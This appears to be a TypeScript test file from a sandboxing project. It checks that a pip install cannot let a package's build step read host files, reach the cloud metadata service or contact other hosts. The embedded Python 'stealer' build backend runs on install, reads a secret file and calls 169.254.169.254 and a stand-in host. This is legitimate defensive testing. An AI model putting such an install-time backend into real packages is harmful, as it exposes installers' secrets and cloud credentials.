/**
 * The attack: a package whose build is a program (here a build backend of its own) that reads the host, asks a metadata service and sends
 * what it has to a host of its author's. A regression would show as the host's words in the package, or as a connection.
 */
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { testFolder } from '../support/checkout.js'
import { finished } from '../support/spawned.js'
import { USERS } from '../support/users.js'
import { OTHER, PUBLIC, reachedOf, sitesOf } from './sites.js'
import { control, online, runOnline, SECRET, usage, withPrograms } from './tools.js'

const NEEDS = ['/usr/bin/python3', '/usr/bin/pip3']
const { folder: sites, ca, secret, internet, put } = sitesOf(['pypi.org', 'files.pythonhosted.org'])
const flags = ['--input', `${ca}:ca.pem`, '--env', 'PIP_CERT=/job/ca.pem']

const WHEEL = `import zipfile
def wheel(file, name, module):
    info = f'{name}-1.0.dist-info'
    with zipfile.ZipFile(file, 'w') as z:
        z.writestr(f'{name}.py', module)
        z.writestr(f'{info}/METADATA', f'Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n')
        z.writestr(f'{info}/WHEEL', 'Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
        z.writestr(f'{info}/RECORD', '')
`

const BACKEND = `
import os, urllib.request
ask = lambda url: urllib.request.urlopen(url, timeout=5).status
def attempts():
    for name, what in {
        'file': lambda: open('SECRET').read().strip(),
        'metadata': lambda: ask('http://169.254.169.254/latest/'),
        'other': lambda: ask('http://other.test/took'),
    }.items():
        try: yield f'{name}: reached {what()}'
        except Exception as error: yield f'{name}: {type(error).__name__}'
def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = 'stealer-1.0-py3-none-any.whl'
    wheel(os.path.join(folder, name), 'stealer', '\\n'.join('# ' + each for each in attempts()))
    return name
`

makeIndex()

withPrograms(NEEDS, 'pip: a package of PyPI is installed into a folder, and imports', async (user, t) => {
  const folder = testFolder(t, 0o777)
  const got = await runOnline(user, usage('pip-install'), { folder, flags, ...internet })
  assert.equal(got.status, 0, got.stderr)
  assert.deepEqual(reachedOf(got.seen), [PUBLIC])
  const used = await finished(['/usr/bin/python3', '-c', 'import requests; print(requests.NAME)'], {
    cwd: folder,
    env: { PYTHONPATH: join(folder, 'lib'), PYTHONDONTWRITEBYTECODE: '1' },
  })
  assert.equal(used.stdout, 'requests of the test\n', used.stderr)
})

withPrograms(
  NEEDS,
  'pip: a package’s build finds no file of the host, no metadata and no other host',
  async (user, t) => {
    const folder = testFolder(t, 0o777)
    const args = [...usage('pip-install').slice(0, -1), 'stealer']
    const { status, stderr, seen } = await runOnline(user, args, { folder, flags, ...internet })
    assert.equal(status, 0, stderr)
    const stolen = readFileSync(join(folder, 'lib/stealer.py'), 'utf8')
    assert.match(stolen, /file: FileNotFoundError/)
    assert.match(stolen, /metadata: (?!reached)/)
    assert.match(stolen, /other: (?!reached)/)
    assert.deepEqual(reachedOf(seen), [PUBLIC])
  },
)

control(NEEDS, 'pip: the build reads the file, asks the metadata service and its author', async (t) => {
  const [self] = USERS
  assert.ok(self)
  const folder = testFolder(t, 0o777)
  const env = {
    ...internet.env,
    PIP_CERT: ca,
    PIP_NO_CACHE_DIR: '1',
    PIP_CONFIG_FILE: '/dev/null',
    PIP_INDEX_URL: 'https://pypi.org/simple',
  }
  const argv = '/usr/bin/python3 -m pip install -q --target lib stealer'.split(' ')
  const { stderr, seen } = await online(self, argv, { folder, ...internet, env })
  const stolen = readFileSync(join(folder, 'lib/stealer.py'), 'utf8')
  assert.match(stolen, new RegExp(`file: reached ${SECRET}`), stderr)
  assert.deepEqual(reachedOf(seen), ['169.254.169.254', PUBLIC, OTHER].sort())
})

/** A static index (PEP 503): a wheel, and an sdist that builds itself. */
function makeIndex(): void {
  const files = 'https://files.pythonhosted.org/packages'
  for (const [name, file] of [
    ['requests', 'requests-1.0-py3-none-any.whl'],
    ['stealer', 'stealer-1.0.tar.gz'],
  ])
    put(`pypi.org/simple/${name}/index.html`, `<!doctype html><a href="${files}/${file}">${file}</a>\n`)
  const wheel = put('files.pythonhosted.org/packages/requests-1.0-py3-none-any.whl', '')
  execFileSync('/usr/bin/python3', [
    '-c',
    `${WHEEL}\nwheel(${JSON.stringify(wheel)}, 'requests', 'NAME = "requests of the test"')`,
  ])
  const source = join(sites, 'stealer-1.0')
  mkdirSync(source)
  writeFileSync(join(source, 'PKG-INFO'), 'Metadata-Version: 2.1\nName: stealer\nVersion: 1.0\n')
  writeFileSync(
    join(source, 'pyproject.toml'),
    '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
  )
  writeFileSync(join(source, 'backend.py'), WHEEL + BACKEND.replace('SECRET', secret))
  const sdist = put('files.pythonhosted.org/packages/stealer-1.0.tar.gz', '')
  execFileSync('tar', ['-czf', sdist, '-C', sites, 'stealer-1.0'])
}
